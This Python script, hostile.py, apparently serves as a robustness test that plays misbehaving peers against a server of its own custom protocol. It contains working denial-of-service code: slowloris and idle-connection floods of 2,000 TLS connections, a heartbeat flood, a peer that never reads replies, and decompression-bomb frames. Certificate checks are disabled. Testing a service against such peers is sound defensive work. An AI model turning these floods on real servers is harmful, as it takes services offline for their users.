#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Peers that mean no good, for so many seconds: hostile.py CONTACT SECONDS KIND...

    slowloris   2,000 connections that send the first byte of a TLS record and wait;
                those that are closed come again
    idle        2,000 connections that finish the TLS handshake and say nothing
    flood       a welcome worker that sends heartbeats as fast as it can
    deaf        a welcome worker that asks for much and reads nothing
    bomb        welcome workers that send 64 KiB made to grow in decoding
"""
import base64
import json
import os
import select
import socket
import ssl
import sys
import threading
import time

N = 2000


def address(contact):
    return contact["addr"], int(contact["port"])


def framed(body):
    return len(body).to_bytes(4, "big") + body


def field(number, value):
    if isinstance(value, int):
        return bytes([number << 3, value])
    return bytes([number << 3 | 2, len(value)]) + value


def tls():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE  # it attacks; it need not know whom
    return context


def welcome(contact):
    token = contact["join"].rsplit(".", 1)[1].upper()
    token = base64.b32decode(token + "=" * (-len(token) % 8))
    hello = b"".join([field(1, 1), field(2, 1), field(3, b"hostile"), field(4, b"1"),
                      field(5, 1), field(6, token), field(7, b"hostile"),
                      field(8, os.urandom(16)), field(9, 1), field(10, b"none")])
    s = tls().wrap_socket(socket.create_connection(address(contact), 5))
    s.sendall(framed(field(1, hello)))
    s.recv(4096)
    s.sendall(framed(bytes([10 << 3 | 2, 2, 10 << 3, 1])))  # Resume: nothing, last
    return s


def crowd(contact, end, shake):
    """N connections at a time."""
    context, open_ = tls(), []
    while time.monotonic() < end:
        for s in select.select(open_[:500], [], [], 0)[0]:
            try:
                if s.recv(4096):
                    continue
            except (OSError, ssl.SSLError):
                pass
            open_.remove(s)
            s.close()
        if len(open_) >= N:
            open_.append(open_.pop(0))
            time.sleep(0.01)
            continue
        try:
            s = socket.create_connection(address(contact), 5)
            if shake:
                s = context.wrap_socket(s)
            else:
                s.sendall(b"\x16")
            open_.append(s)
        except OSError:
            time.sleep(0.01)


def again_and_again(contact, end, act):
    while time.monotonic() < end:
        try:
            s = welcome(contact)
            while time.monotonic() < end:
                act(s)
        except OSError:
            time.sleep(0.05)


def deaf(s):
    s.settimeout(1)
    s.sendall(framed(bytes([5 << 3 | 2, 0])) * 1000)  # each is answered


KINDS = {
    "slowloris": lambda c, end: crowd(c, end, False),
    "idle": lambda c, end: crowd(c, end, True),
    "flood": lambda c, end: again_and_again(
        c, end, lambda s: (s.sendall(framed(bytes([5 << 3 | 2, 0])) * 2000), s.recv(65536))),
    "deaf": lambda c, end: again_and_again(c, end, deaf),
    "bomb": lambda c, end: again_and_again(
        c, end, lambda s: s.sendall(framed(bytes([1 << 3 | 2, 0]) * 32767))),
}


def main():
    with open(sys.argv[1]) as f:
        contact = json.load(f)
    end = time.monotonic() + float(sys.argv[2])
    threads = [threading.Thread(target=KINDS[kind], args=(contact, end), daemon=True)
               for kind in sys.argv[3:]]
    for t in threads:
        t.start()
    for t in threads:
        t.join(max(0, end + 2 - time.monotonic()))


main()
